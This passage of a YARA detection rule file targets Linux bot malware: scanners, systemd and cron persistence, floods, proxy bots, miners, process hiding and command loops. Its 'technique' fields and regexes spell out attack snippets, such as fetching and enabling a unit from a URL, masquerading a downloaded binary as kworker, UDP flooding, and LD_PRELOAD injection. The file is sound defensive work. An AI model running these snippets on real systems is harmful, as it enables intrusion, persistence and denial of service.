/* A port scanner: a connect attempt (IO::Socket with a variable port,
 * connect_ex, fsockopen, socket_connect, /dev/tcp, Node's net.connect)
 * inside a walk over many ports (a range to 1024 or more, two bounds from
 * the command line, a list of service ports) or over the hosts of a network.
 * A health check connects to its own few services on localhost, a wait-for
 * script retries one port. */
rule bot_port_scan_loop : bot hacktool
{
    meta:
        description = "Port scanner: connect attempts over a range or list of ports, or over the hosts of a network"
        severity = "high"
        technique = "for my $p ($from .. $to) { IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) } | for p in PORTS: s.connect_ex((a, p)) over ip_network().hosts() | foreach (range(1, 1024) as $p) fsockopen($h, $p) | for i in $(seq 1 254); do for p in 22 80 443; do echo >/dev/tcp/$b.$i/$p"
        seen = "train7"
    strings:
        $c1 = /\bPeerPort\s{0,4}=>\s{0,4}\$\w{1,30}|\bIO::Socket::INET\s{0,2}->\s{0,2}new\s{0,2}\(\s{0,2}["']?\$\w{1,30}:\$\w{1,30}/
        $c2 = /\.connect(_ex)?\s{0,2}\(\s{0,2}\(\s{0,2}[^,\n]{1,40},\s{0,2}(int\s{0,2}\()?[a-z_]\w{0,20}\)?\s{0,2}\)\s{0,2}\)/
        $c3 = /\b(fsockopen|stream_socket_client|socket_connect)\s{0,2}\([^\n]{0,80}\$\w{1,30}\s{0,2},\s{0,2}(\(int\)\s{0,2})?\$\w{1,30}/
        $c4 = /\/dev\/tcp\/[^\n\/ ]{0,40}\$\{?\w{1,20}\}?[^\n\/ ]{0,10}\/\$\{?\w{1,20}/
        $c5 = /\bnet\.(connect|createConnection)\s{0,2}\(\s{0,2}(\{\s{0,2}port\s{0,2}:\s{0,2})?[a-z_]\w{0,20}\s{0,2}[,}]|\bnew\s{1,4}net\.Socket\s{0,2}\(\s{0,2}\)\s{0,2}\.connect\s{0,2}\(\s{0,2}[a-z_]/
        $c6 = /\bTCPSocket\s{0,2}\.\s{0,2}(new|open)\s{0,2}\(\s{0,2}[a-z_@]\w{0,20}\s{0,2},\s{0,2}[a-z_@]\w{0,20}\s{0,2}\)|\bSocket\s{0,2}\.\s{0,2}tcp\s{0,2}\(\s{0,2}[a-z_@]\w{0,20}\s{0,2},\s{0,2}[a-z_@]\w{0,20}/
        // many ports or many hosts
        // (numbers only: range(1, n) is every retry loop)
        $m1 = /\brange\s{0,2}\(\s{0,2}[0-9]{1,2}\s{0,2},\s{0,2}(102[45]|[2-9][0-9]{3}|[0-9]{5})\s{0,2}\)/
        $m2 = /\(\s{0,2}\$\w{1,30}\s{0,2}\.\.\s{0,2}\$\w{1,30}\s{0,2}\)|\(\s{0,2}1\s{0,2}\.\.\s{0,2}(1024|[0-9]{4,5})\s{0,2}\)/
        $m3 = /\bseq\s{1,4}[0-9]{1,3}\s{1,4}(25[45]|1024|[0-9]{4,5})\b|\{1\.\.(25[45]|1024|[0-9]{4,5})\}/
        $m4 = /[\[(,]\s{0,2}(21|22)\s{0,2},\s{0,2}(22|23|25|80)\s{0,2},\s{0,2}[0-9]{2,5}\s{0,2},\s{0,2}[0-9]{2,5}\s{0,2},\s{0,2}[0-9]{2,5}/
        $m5 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}([0-9]{2,5}\s{1,4}){3,}[0-9]{2,5}\s{0,4}(;|\n)/
        $m6 = /\bip_network\s{0,2}\(|\.hosts\s{0,2}\(\s{0,2}\)|\bNetAddr::IP\b|\bfor\s{0,2}\(\s{0,2}(let|var)\s{1,4}\w{1,10}\s{0,2}=\s{0,2}[0-9]{1,2}\s{0,2};\s{0,2}\w{1,10}\s{0,2}<=?\s{0,2}(1024|[0-9]{4,5}|25[45])\b/
        $m7 = /\bfor\s{0,2}\(\s{0,2}\$\w{1,10}\s{0,2}=\s{0,2}[0-9]{1,2}\s{0,2};\s{0,2}\$\w{1,10}\s{0,2}<=?\s{0,2}(1024|[0-9]{4,5}|25[45])\b/
    condition:
        filesize < 256KB and not hs_doc_file and
        for any of ($m*) : ( for any i in (1..#) : (
            $c1 in (@[i] - 300 .. @[i] + 600) or $c2 in (@[i] - 300 .. @[i] + 600) or
            $c3 in (@[i] - 300 .. @[i] + 600) or $c4 in (@[i] - 300 .. @[i] + 600) or
            $c5 in (@[i] - 300 .. @[i] + 600) or $c6 in (@[i] - 300 .. @[i] + 600) ) )
}

/* A systemd user unit (or system unit) whose ExecStart runs a program
 * hidden inside a dot directory of the home (%h/.cache/.x.py,
 * ~/.local/share/.d/x, a dot name below ~/tmp) or in a temp dir, kept
 * running (Restart=always). An application's unit runs %h/app/venv/bin/...
 * or ~/.local/bin/tool: a dot directory at the top of the home is where
 * tools live, a dot name below it is hiding. */
rule bot_systemd_unit_hidden_exec : bot
{
    meta:
        description = "systemd unit running a program hidden in a nested dot path of the home or in a temp dir, restarted forever"
        severity = "high"
        technique = "[Service] ExecStart=%h/.local/share/.uudh/x | ExecStart=/usr/bin/python3 %h/.cache/.x.py | ExecStart=/dev/shm/.k; Restart=always"
        seen = "train7"
    strings:
        $sv = "[Service]" ascii
        $ex = /(^|\n)[ \t]{0,4}ExecStart(Pre|Post)?[ \t]{0,2}=[ \t]{0,2}[-@+!:]{0,2}[^\n]{0,120}((%h|~|\$HOME|\/home\/[\w.-]{1,32}|\/root)\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-]|(%h|~|\$HOME|\/home\/[\w.-]{1,32}|\/root)\/\.[\w-]{1,30}\.(py|pl|sh|php|js|rb)\b|(\/tmp|\/var\/tmp|\/dev\/shm)\/)/
        $rs = /(^|\n)[ \t]{0,4}Restart[ \t]{0,2}=[ \t]{0,2}(always|on-failure|on-abnormal)/
        // an application's virtualenv is a dot directory below the home too
        $venv = /(^|\n)[ \t]{0,4}ExecStart[^\n]{0,200}\/\.(venv|virtualenv|env|tox|bundle|nvm|pyenv|rbenv)\//
    condition:
        filesize < 64KB and $sv and $ex and $rs and not $venv
}

/* A script fetching a systemd unit from the network straight into the
 * user's (or the system's) unit directory and enabling it, often with
 * lingering so it runs without a login. An installer writes its unit from
 * its own text or a package. */
rule bot_systemd_unit_fetch_enable : bot
{
    meta:
        description = "Script downloading a systemd unit into a unit directory and enabling it (user persistence)"
        severity = "high"
        technique = "curl -fsSL URL -o ~/.config/systemd/user/x.service; systemctl --user enable --now x.service; loginctl enable-linger"
        seen = "train7,train9"
    strings:
        $f = /\b(curl|wget|fetch)\s[^\n]{0,200}(-o|-O|--output(-document)?[= ])\s{0,4}["']?[^\s"']{0,100}\.(service|timer)\b|\b(urlretrieve|getstore|mirror|copy)\s{0,2}\([^\n]{0,200}systemd\/(user|system)\//
        // a user unit (an admin installing a system service from a vendor is not that)
        $e = /\bsystemctl\s{1,4}--user\s{1,4}(enable|start|daemon-reload)\b|\bloginctl\s{1,4}enable-linger\b/
        // (train9) the program fetched from plain HTTP into the home and made executable, its
        // user unit enabled and lingering (the unit written elsewhere)
        $fp = /\b(curl|wget)\s[^\n]{0,100}http:\/\/[^\n]{0,100}(-o|-O)\s{0,4}["']?(~|\$HOME|\$\{HOME\}|%h)\/[^\s"']{1,100}[^\n]{0,40}&&\s{0,4}chmod\s{1,4}\+?[0-7]{0,4}x?/
        $en = /\bsystemctl\s{1,4}--user\s{1,4}enable\b/
        $lg = /\bloginctl\s{1,4}enable-linger\b/
    condition:
        filesize < 256KB and not hs_doc_file and (($f and $e) or ($fp and $en and $lg))
}

/* A crontab line watching over a hidden program: started again when a
 * liveness test fails (kill -0 $(cat pid) ||, pgrep -f x ||, pidof x ||),
 * at boot, or fetched when missing ([ -x P ] || curl -o P; chmod +x P),
 * where the program sits in a nested dot path of the home ($HOME/.cache/.d/x,
 * ~/tmp/.8772/.u). A backup job runs ~/bin/backup.sh; certbot renews from
 * ~/.local/bin. bot_crontab_file_payload reads a hidden file started at the
 * line's start. */
rule bot_crontab_watchdog_hidden : bot
{
    meta:
        description = "Crontab line restarting or re-fetching a program hidden in a nested dot path of the home"
        severity = "high"
        technique = "* * * * * kill -0 $(cat /tmp/p) || $HOME/.local/share/.q/.u & | */5 * * * * pgrep -f x || $HOME/.cache/.d/x | [ -x P ] || (curl -o P URL; chmod +x P); pidof x || P"
        seen = "train7"
    strings:
        // the hidden program, a dot name nested inside the home (keyed on the home's spelling)
        $hid1 = /\$(HOME|\{HOME\})\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
        $hid2 = /[\s;&|('"]~\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
        $hid3 = /\/(home\/[\w.-]{1,32}|root)\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
        $fx = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}\b(curl|wget)\s[^\n]{0,200}\s(-o|-O)\s{0,4}["']?[^\s;&|"']{1,100}[^\n]{0,40}\bchmod\s{1,4}(\+x|[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(\|\||&&|;)\s{0,4}(nohup\s{1,4})?["']?(\$HOME|\$\{HOME\}|~|\/)/
        // an application's virtualenv or version manager below the home
        $venv = /\/\.(venv|virtualenv|env|tox|bundle|nvm|pyenv|rbenv)\//
        $guard = /\b(kill\s{1,4}-0|pgrep|pidof)\b[^\n]{0,120}\|\||\[\s{1,2}-[xfe]\s[^\n\]]{1,100}\]\s{0,2}\|\||@reboot/
    condition:
        filesize < 16KB and hs_crontab_text and not hs_doc_file and
        ((any of ($hid*) and $guard and not $venv) or $fx)
}

/* A Node HTTP flood: a request function that fires again when its answer or
 * error comes (`res => { res.resume(); fire(); }`, `req.on('error', fire)`),
 * with a random cache-buster in the path, started many times over by a
 * counted loop. A load test (autocannon, a fixed number of timed requests)
 * measures and stops. */
rule bot_node_http_flood : bot
{
    meta:
        description = "Node.js HTTP flood: requests with a random cache-buster re-fired on every answer and error, started many times"
        severity = "high"
        technique = "function fire(){ http.request({path: p + '?' + Math.random()}, r => { r.resume(); fire(); }).on('error', fire).end(); } for (i = 0; i < conc; i++) fire();"
        seen = "train7"
    strings:
        $rq = /\bhttps?\.(request|get)\s{0,2}\(/
        $rnd = /(['"`?&=]\s{0,2}\+\s{0,2}|\$\{)\s{0,2}(Math\.random\s{0,2}\(|Date\.now\s{0,2}\(|crypto\.randomBytes\s{0,2}\()/
        $re1 = /\.on\s{0,2}\(\s{0,2}['"]error['"]\s{0,2},\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)/
        $re2 = /\.resume\s{0,2}\(\s{0,2}\)\s{0,2};\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\(\s{0,2}\)/
        $re3 = /\bset(Interval|Immediate)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}[,)]/
        $n = /\bfor\s{0,2}\(\s{0,2}(let|var|const)?\s{0,2}\w{1,10}\s{0,2}=\s{0,2}0\s{0,2};\s{0,2}\w{1,10}\s{0,2}<\s{0,2}[^;\n]{1,40};[^)\n]{0,20}\)\s{0,2}\{?\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\(\s{0,2}\)/
    condition:
        filesize < 256KB and hs_node_code and $rq and $rnd and any of ($re*) and $n
}

/* A Node HTTP CONNECT proxy that announces itself: CONNECT parsed, "200
 * Connection established" written, both sockets piped, and the proxy's port
 * or host name reported to a server. A development proxy forwards to its
 * own backend and reports nothing. */
rule bot_node_connect_proxy_report : bot
{
    meta:
        description = "Node.js HTTP CONNECT proxy that reports its port/host to a remote server (proxy bot)"
        severity = "high"
        technique = "net.createServer(c => c.once('data', d => { m = /^CONNECT h:p/; up = net.connect(p, h, () => { c.write('HTTP/1.1 200 Connection established'); up.pipe(c); c.pipe(up) }) })).listen(P); https.get(PANEL + '?p=' + P + '&h=' + os.hostname())"
        seen = "train7"
    strings:
        $cs = /\bnet\.createServer\s{0,2}\(/
        $cn = "CONNECT" ascii
        $ok = /200 Connection established/ nocase
        $up = /\bnet\.(connect|createConnection)\s{0,2}\(/
        $pp = /\.pipe\s{0,2}\(/
        $rp = /\bhttps?(['"]\s{0,2}\))?\.(get|request)\s{0,2}\([^\n]{0,200}(hostname\s{0,2}\(\s{0,2}\)|\bport\b|[?&]p=)|\bfetch\s{0,2}\([^\n]{0,200}hostname\s{0,2}\(\s{0,2}\)/
    condition:
        filesize < 256KB and hs_node_code and all of them
}

/* A miner set up from Python/PHP/Perl with its pool and wallet in a JSON
 * (xmrig-style) config it writes, then started: bot_miner_launch_code reads
 * them on the command line. */
rule bot_miner_config_launch : bot
{
    meta:
        description = "Coin miner written a pool/wallet config (xmrig-style JSON) and started from code"
        severity = "high"
        technique = "json.dump({'pools': [{'url': 'pool:3333', 'user': WALLET}]}, f); subprocess.Popen([exe, '-c', cfg], start_new_session=True)"
        seen = "train7"
    strings:
        $po = /['"]pools['"]\s{0,2}(:|=>)\s{0,2}(\[|array\s{0,2}\()/
        $u = /['"]url['"]\s{0,2}(:|=>)\s{0,2}['"][\w.+\/:-]{1,80}:[0-9]{2,5}['"]/
        $w = /['"]user['"]\s{0,2}(:|=>)\s{0,2}['"][0-9A-Za-z]{40}/
        $x = /\bsubprocess\.\w{1,16}\s{0,2}\(|\bos\.(system|popen|spawn\w{0,3}|exec\w{0,3})\s{0,2}\(|\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
    condition:
        filesize < 512KB and not hs_doc_file and $po and $u and $w and $x
}

/* The user's view of the system hidden: wrappers named after ps/top/
 * netstat/ss/lsof written into a directory put first on PATH, each running
 * the real tool through grep -v; or LD_PRELOAD of a library in the home or a
 * temp dir appended to a shell start-up file. */
rule bot_tool_wrapper_hiding : bot
{
    meta:
        description = "Process/socket hiding: ps/top/netstat wrappers filtering their output put first on PATH, or LD_PRELOAD of a home/temp library written into a shell rc"
        severity = "high"
        technique = "for t in ps top netstat ss; do printf '#!/bin/sh\\n%s \"$@\" | grep -vE x' $(command -v $t) > ~/.local/bin/$t; done; echo 'export PATH=~/.local/bin:$PATH' >> ~/.bashrc | echo \"export LD_PRELOAD=$HOME/.cache/x.so\" >> ~/.bash_profile"
        seen = "train7"
    strings:
        $tl = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}[^\n;]{0,40}\b(ps|top|netstat|ss|lsof|w|who)\s{1,4}(ps|top|netstat|ss|lsof|htop|pstree|w|who)\b/
        $gv = /"\\?\$@"\s{0,2}(2>&1\s{0,2})?\|\s{0,2}(e|f)?grep\s{1,4}-[a-zA-Z]{0,3}v/
        $ld = /\bLD_PRELOAD=["']?(\$HOME|\$\{HOME\}|~|%s|\/home\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[^\n]{0,80}(>>\s{0,4}["']?(~|\$HOME|\$\{HOME\})\/\.(bashrc|bash_profile|profile|zshrc|bash_login|zprofile)|\n[^\n]{0,200}\.(bashrc|bash_profile|profile|zshrc)\b)/
        $ld2 = /\.(bashrc|bash_profile|profile|zshrc)['"][^\n]{0,40}['"]a['"][^\n]{0,200}\n[^\n]{0,200}LD_PRELOAD=/
    condition:
        filesize < 256KB and not hs_doc_file and (($tl and $gv) or $ld or $ld2)
}

/* ---- train9 round (branch fix9-bot, seen = "train9"): written from the
 * misses of train9 seeds 2 and 3 (and train8's bot category); remote
 * command loops in Python/Perl/Ruby/Node are script_flow.c's. */

/* Lua bots: LuaSocket (or its HTTP module) and what came back run as a
 * command. bot_revshell_lua asks for a plain :receive() and a bare variable
 * in io.popen; bots concatenate (io.popen(cmd .. " 2>&1")), cut a prefix
 * (data:sub(4)), read UDP (receivefrom) or poll HTTP (http.request). A tmux
 * status script runs its own literals through io.popen and opens no socket. */
rule bot_lua_socket_exec : bot
{
    meta:
        description = "Lua bot: what a LuaSocket connection, UDP datagram or HTTP request returned run with io.popen/os.execute"
        severity = "high"
        technique = "local l = c:receive('*l'); io.popen(l:match(...) .. ' 2>&1') | u:receivefrom(); io.popen(data:sub(4)) | body = http.request(URL); os.execute(body .. ' &')"
        seen = "train9"
    strings:
        $rq = /\brequire\s{0,2}\(?\s{0,2}["']socket(\.http|\.url)?["']/
        $rv = /:\s{0,2}receive(from)?\s{0,2}\(|\bhttps?\.request\s{0,2}\(/
        $x = /\b(io\.popen|os\.execute)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,30}(:\w{1,10}\s{0,2}\([^()\n]{0,20}\))?\s{0,2}(\.\.|[,)])/
    condition:
        filesize < 1MB and not hs_doc_file and $rq and
        for any i in (1..#rv) : ( $x in (@rv[i] .. @rv[i] + 400) )
}

/* Tcl bots outside eggdrop: a raw `socket` read with gets and the line (or
 * a part of it) run with exec or a pipe open within a few lines. An eggdrop
 * script talks to its bot's bind/putserv API (bot_tcl_eggdrop_exec). */
rule bot_tcl_socket_exec : bot
{
    meta:
        description = "Tcl bot: lines read from a raw socket run as commands (exec sh -c $x, exec {*}$x, open |$x)"
        severity = "high"
        technique = "set s [socket H 6667]; while {[gets $s line] >= 0} { regexp {...} $line -> cmd; catch {exec /bin/sh -c $cmd} r; puts $s $r }"
        seen = "train9"
    strings:
        $sk = /\[\s{0,2}socket\s{1,4}(-async\s{1,4}|-server\s{1,4}\S{1,40}\s{1,4})?[$\w"]/
        $g = /\b(gets|read) \$\w{1,30}(\s{1,4}\w{1,30})?\s{0,2}\]/
        $x = /\bexec (--\s{1,4})?(\{\*\}\s{0,2}\$|(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\s{1,4}-c\s{1,4}\$|\$)|\bopen "\|\s{0,2}\$|\bopen \[\s{0,2}concat\s{1,4}"?\|/
    condition:
        filesize < 1MB and not hs_doc_file and $sk and
        for any i in (1..#g) : ( $x in (@g[i] .. @g[i] + 500) )
}

/* Login guessing against a web login form (cPanel/WHM's login_only, a
 * WordPress wp-login.php or xmlrpc.php): a password field filled from a
 * variable in a loop, and the hits appended to a file. A monitor logs in
 * with its one configured password and alerts; it keeps no list of hits. */
rule bot_form_login_guesser : bot hacktool
{
    meta:
        description = "Web login guesser: a form's password field filled from a word list in a loop, posted to cPanel/WHM or WordPress logins, hits appended to a file"
        severity = "high"
        technique = "while read pass; do curl -d \"user=$u&pass=$pass\" https://$h:2083/login/?login_only=1 | grep security_token && echo ... >> hits; done < p.txt | curl_multi over file(t.txt) x file(p.txt) | requests.post(url, data={'user': u, 'pass': p}) per thread"
        seen = "train9,train8"
    strings:
        $lg = /\/login\/\?login_only=1|\bwp-login\.php\b|\bxmlrpc\.php\b|:20(82|83|86|87|95|96)\/|\bwp\.getUsersBlogs\b/
        // the password field from a variable: shell/query text, PHP array, Python dict, Perl hash
        $pw1 = /\b(pass|pwd|passwd|password)=\$\{?\w{1,30}/
        $pw2 = /['"](pass|pwd|passwd|password)['"]\s{0,2}(=>|:)\s{0,2}(\$\w{1,30}|[a-zA-Z_]\w{0,30}\s{0,2}[,})\]])/
        $pw3 = /\b(pass|pwd|passwd|password)\s{0,2}=>\s{0,2}\$\w{1,30}/
        $pw4 = /-u\s{1,4}["'][^"'\s:]{1,30}:\$\{?\w{1,30}/
        // a list walked
        // (literals: a regex on foreach/for would be tried on every PHP loop)
        $l1 = "while read" ascii
        $l2 = "foreach" ascii
        $l3 = "for my $" ascii
        $l4 = "threading.Thread" ascii
        $l5 = "; do" ascii
        // the hits kept
        $h1 = "FILE_APPEND" ascii
        $h2 = ">> " ascii
        $h3 = "'>>'" ascii
        $h4 = "\">>\"" ascii
        $h5 = ", 'a')" ascii
        $h6 = ", \"a\")" ascii
    condition:
        filesize < 512KB and not hs_doc_file and $lg and any of ($pw*) and any of ($l*) and any of ($h*)
}

/* A command queue through files: an endless loop polling a file or
 * directory in a hidden temp path (/tmp/.x, /var/tmp/.x/q, /dev/shm/.x)
 * that a web page writes, running what is in it and emptying or deleting
 * it. A spool worker of an application keeps its queue under its own tree
 * and runs its own program on the job, not the job's text. */
rule bot_file_drop_command_loop : bot
{
    meta:
        description = "Command loop over a dropped file: a hidden temp file or queue dir read in an endless loop, its text run as commands, the file emptied or deleted"
        severity = "high"
        technique = "while :; do [ -s $D/in ] && bash $D/in > $D/out; : > $D/in; sleep 3; done | while (1) { @c = <$h>; unlink $f; qx{$c} } | while True: cmd = b64decode(open(p).read()); os.unlink(p); subprocess.run(cmd, shell=True)"
        seen = "train9"
    strings:
        // (literals: the words are common in PHP, regexes on them were costly)
        $hd1 = "/tmp/." ascii
        $hd2 = "/dev/shm/." ascii
        $lp1 = "while (1)" ascii
        $lp2 = "while(1)" ascii
        $lp3 = "while True:" ascii
        $lp4 = "while :;" ascii
        $lp5 = "while true;" ascii
        $lp6 = "for (;;)" ascii
        $sl = "sleep" ascii
        $x1 = /\bqx\s{0,2}[{(\/|]\s{0,2}\$\w|\bsystem\s{0,2}\(?\s{0,2}\$\w/
        $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2},[^\n)]{0,80}shell\s{0,2}=\s{0,2}True|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
        $x3 = /sh ["']?\$\{?\w{1,30}\}?\/[\w.-]{1,40}["']?\s{0,4}(>|2>|<|;|\n|&)/
        $rm1 = "unlink" ascii
        $rm2 = "os.remove" ascii
        $rm3 = ": >" ascii
        $rm4 = "rm -f $" ascii
        $rm5 = "truncate" ascii
    condition:
        filesize < 256KB and not hs_doc_file and any of ($hd*) and any of ($lp*) and $sl and any of ($x*) and any of ($rm*)
}

/* A download started under a daemon's name: bash's exec -a (or an argv0
 * wrapper) giving the fetched or hidden program a kernel-thread or server
 * name. bot_process_masquerade reads Perl/Python's $0. */
rule bot_exec_argv0_masquerade : bot
{
    meta:
        description = "Fetched or hidden program started with a faked process name (exec -a '[kworker...]' / 'php-fpm: pool' ./.x)"
        severity = "high"
        technique = "curl -s URL -o .b && exec -a '[kworker/u8:2]' ./.b -c H:443"
        seen = "train9"
    strings:
        $ea = /\bexec -a\s{1,4}["']?(\[|[\w\/.-]{0,30}(httpd|sshd|php-fpm|nginx|apache2|crond?|kworker|kthreadd|systemd|dbus-daemon|rsyslogd|mysqld|postfix|exim|dovecot|kswapd|-bash))[^\n]{0,80}\s(\.{1,2}\/\.|["']?(\/tmp|\/var\/tmp|\/dev\/shm|\$HOME|~)\/[^\n\s]{0,60}\/\.|["']?\.\/\.)/
        $f = /\b(curl|wget)\s/
    condition:
        filesize < 256KB and not hs_doc_file and $ea and $f
}

/* A proxy server in a script: it listens, parses a SOCKS4 request (the
 * 8-byte header unpacked, VN 4 / CD 1, answered 0x5a) or an HTTP CONNECT
 * line, connects where the client asked and relays both ways through a
 * select loop. bot_http_connect_proxy (medium) asked for Python or Perl and
 * no SOCKS; ssh -D forwards through an SSH login, a dev server answers
 * its own pages. */
rule bot_proxy_relay_server : bot
{
    meta:
        description = "Script proxy server: SOCKS4 or CONNECT request parsed, the asked host connected, both sides relayed in a select loop"
        severity = "high"
        technique = "accept; unpack('CCnN', hdr) / struct.unpack('>BBH') / preg_match('/^CONNECT (h):(p)/'); connect(dst); send 0x5a / '200 Connection established'; select/stream_select relay"
        seen = "train9"
    strings:
        $ac1 = "->accept" ascii
        $ac2 = ".accept(" ascii
        $ac3 = "socket_accept(" ascii
        $ac4 = "TCPServer" ascii
        $ac5 = "BaseRequestHandler" ascii
        $h1 = /\bunpack\s{0,2}\(\s{0,2}['"](>|!)?(CCnN|CCn|BBH|BBHI|BBH4s)['"]/
        $h2 = /['"\/{]\^?CONNECT\s{1,2}[(\[\\]|(==|\beq)\s{0,2}b?['"]CONNECT['"]|\bstartswith\s{0,2}\(\s{0,2}b?['"]CONNECT\b/
        $rp1 = "0, 90" ascii
        $rp3 = "0,90" ascii
        $rp4 = "\\x00\\x5a" ascii
        $rp5 = "\\x5a\\x00" ascii
        $rp6 = "0x5a" ascii
        $rp2 = /200 Connection established/ nocase
        $up = /\bstream_socket_client\s{0,2}\(|\bcreate_connection\s{0,2}\(|PeerAddr\s{0,2}=>|\.connect\s{0,2}\(|\bsocket_connect\s{0,2}\(|\bfsockopen\s{0,2}\(/
        $sel = /\bselect\.select\s{0,2}\(|\bIO::Select\b|\bstream_select\s{0,2}\(|\bsocket_select\s{0,2}\(|->\s{0,2}can_read\b/
    condition:
        filesize < 200KB and not hs_doc_file and any of ($ac*) and any of ($h*) and any of ($rp*) and $up and $sel
}

/* A file put back in the docroot: an endless loop that checks whether a
 * file is there (or still carries its mark), fetches it again into place
 * when not, makes it read-only and/or back-dates it. A deploy script
 * fetches once; a monitor alerts instead of rewriting. */
rule bot_webroot_reinstaller_loop : bot
{
    meta:
        description = "Reinstaller: an endless loop fetching a docroot file back when it is removed or changed, made read-only or back-dated"
        severity = "high"
        technique = "while true; do if [ ! -f \"$T\" ] || ! grep -q MARK \"$T\"; then (curl -s U || wget -qO- U) > \"$T\"; chmod 444 \"$T\"; touch -r version.php \"$T\"; fi; sleep 300; done"
        seen = "train8"
    strings:
        $lp1 = "while true" ascii
        $lp2 = "while :" ascii
        $lp3 = "until false" ascii
        $lp4 = "while [ 1 ]" ascii
        $sl = /\bsleep\s{1,4}\d/
        $ck1 = "[ ! -f" ascii
        $ck2 = "[ ! -s" ascii
        $ck3 = "[ ! -e" ascii
        $ck4 = "! grep -q" ascii
        $fe = /\b(curl|wget)\s[^\n]{0,200}(>|-o|-O)\s{0,2}["']?\$\{?\w{1,30}/
        $ro = /\bchmod\s{1,4}(0?4[0-4]4|0?400|0?555|a-w|-w|u-w)\s|\btouch\s{1,4}-r\s/
        $web = /public_html|wp-includes|wp-content|wp-admin|httpdocs|htdocs|\/www\//
    condition:
        filesize < 128KB and not hs_doc_file and any of ($lp*) and $sl and any of ($ck*) and $fe and $ro and $web
}

/* A shell flooder: random bytes written to bash's /dev/udp (or /dev/tcp)
 * device of a target in variables, many at once in a loop. A port check
 * opens /dev/tcp/host/port once and writes nothing random. */
rule bot_shell_dev_udp_flood : bot
{
    meta:
        description = "Shell flooder: /dev/urandom written to /dev/udp/$host/$port in a loop, in the background"
        severity = "high"
        technique = "while [ $SECONDS -lt $end ]; do for i in $(seq 1 64); do head -c 1400 /dev/urandom > /dev/udp/$1/$2 & done; wait; done"
        seen = "train9"
    strings:
        $w = /\/dev\/urandom[^\n]{0,60}>\s{0,2}\/dev\/(udp|tcp)\/["']?\$/
        $lp1 = "done" ascii
    condition:
        filesize < 128KB and not hs_doc_file and $w and $lp1
}

/* A miner's config file where the miner was unpacked: an xmrig-style JSON
 * with a pool list whose user is a wallet-length address, and the miner's
 * own keys (donate-level, max-threads-hint, randomx). A hosting account has
 * no business with one. */
rule bot_miner_config_file : bot
{
    meta:
        description = "Coin miner configuration (xmrig-style pools with a wallet address and miner keys)"
        severity = "high"
        technique = "config.json: {\"cpu\": {\"max-threads-hint\": 100}, \"pools\": [{\"url\": \"pool:3333\", \"user\": \"4...95 chars\"}], \"donate-level\": 0}"
        seen = "train9"
    strings:
        $po = /"pools"\s{0,2}:\s{0,2}\[\s{0,16}\{[^\]]{0,300}"url"\s{0,2}:\s{0,2}"[\w.+\/:-]{1,80}:[0-9]{2,5}"/
        $u = /"user"\s{0,2}:\s{0,2}"[0-9A-Za-z]{60}/
        $k = /["'](donate-level|max-threads-hint|randomx|donate-over-proxy|cpu-priority)["']/
    condition:
        filesize < 64KB and $po and $u and $k
}

/* A miner installed from an archive: fetched, unpacked, the binary renamed
 * or its thread hint set from the CPU count, and started detached with the
 * config beside it. bot_miner_launcher asks for the pool on the command
 * line; here the pool is in the config. */
rule bot_miner_archive_install : bot
{
    meta:
        description = "Miner installer: an archive fetched and unpacked, started detached with its config.json, the miner renamed or its CPU use tuned"
        severity = "high"
        technique = "curl -o x.tgz U && tar xzf x.tgz; mv xmr* systemd-journald; nohup ./systemd-journald -c config.json & | urlretrieve(U); tarfile.open().extractall(); cfg['cpu']['max-threads-hint'] = ...; Popen([bin, '--config', cfg], start_new_session=True)"
        seen = "train9"
    strings:
        $f = /\b(curl|wget|urlretrieve|urlopen|getstore)\b[^\n]{0,200}\.(tgz|tar\.gz|tar\.xz|zip)\b/
        $t = /\btar -?[a-zA-Z]{0,4}x|\btarfile\.open\b|\bextractall\s{0,2}\(|\bunzip |\bPharData\b|\bArchive::Tar\b/
        $c = /(\s-c\s{1,4}|--config[= ]|['"]--config['"]\s{0,2},\s{0,2}|['"]-c['"]\s{0,2},\s{0,2})[^\n]{0,60}config\.json/
        $m1 = /\bmv\s{1,4}["']?xmr/
        $m2 = /max-threads-hint|donate-level|\bxmrig\b/
        $d = /\bnohup\s|\bstart_new_session\s{0,2}=\s{0,2}True|\bsetsid\b|\bscreen\s{1,4}-dm|\bdisown\b|>\s{0,2}\/dev\/null\s{0,4}2>&1\s{0,4}&/
    condition:
        filesize < 256KB and not hs_doc_file and $f and $t and $c and any of ($m*) and $d
}

/* A PTY upgrade: the terminal joined raw to a TCP connection with socat
 * (file:`tty`,raw,echo=0 tcp:H:P) falling back to a Python pty.spawn of a
 * shell. An admin's notes quote it; a script that runs it is a session
 * handed to someone. */
rule bot_pty_upgrade_script : bot
{
    meta:
        description = "Reverse-shell PTY upgrade in a script: socat raw tty to a TCP peer, stty raw -echo, python pty.spawn of a shell"
        severity = "high"
